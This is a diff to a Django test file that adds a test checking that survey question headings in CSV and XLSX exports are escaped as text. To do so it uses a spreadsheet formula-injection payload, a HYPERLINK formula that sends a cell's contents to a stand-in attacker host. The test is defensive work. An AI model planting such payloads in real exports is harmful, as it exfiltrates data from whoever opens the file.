@@ -7,6 +7,7 @@ import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
+from openpyxl import load_workbook
 
 from learning.evaluations import selectors
 from learning.evaluations.models import Response
@@ -106,6 +107,28 @@ def test_export_xlsx(client, coordinator, survey, attendees):
     response = client.get(results_url(survey) + "?export=xlsx")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
+
+
+def test_question_headings_in_the_exports_are_never_formulas(
+    client, coordinator, survey, attendees
+):
+    # Whoever keeps the question forms writes the labels: the heading row, too, is text.
+    formula = '=HYPERLINK("https://kwaad.example/?d="&A2,"Klik")'
+    survey.questions[0]["label"] = formula
+    survey.save(update_fields=["questions"])
+    answered(survey, attendees, 5)
+    client.force_login(coordinator)
+
+    rows = list(csv.reader(io.StringIO(csv_body(client.get(results_url(survey) + "?export=csv")))))
+    assert rows[0][1] == f"'{formula}"
+
+    export = client.get(results_url(survey) + "?export=xlsx")
+    sheet = load_workbook(
+        io.BytesIO(b"".join(export.streaming_content) if export.streaming else export.content)
+    ).active
+    heading = sheet.cell(row=1, column=2)
+    assert heading.data_type == "s"
+    assert heading.value == f"'{formula}"
 
 
 def test_a_coordinator_of_another_section_is_refused(
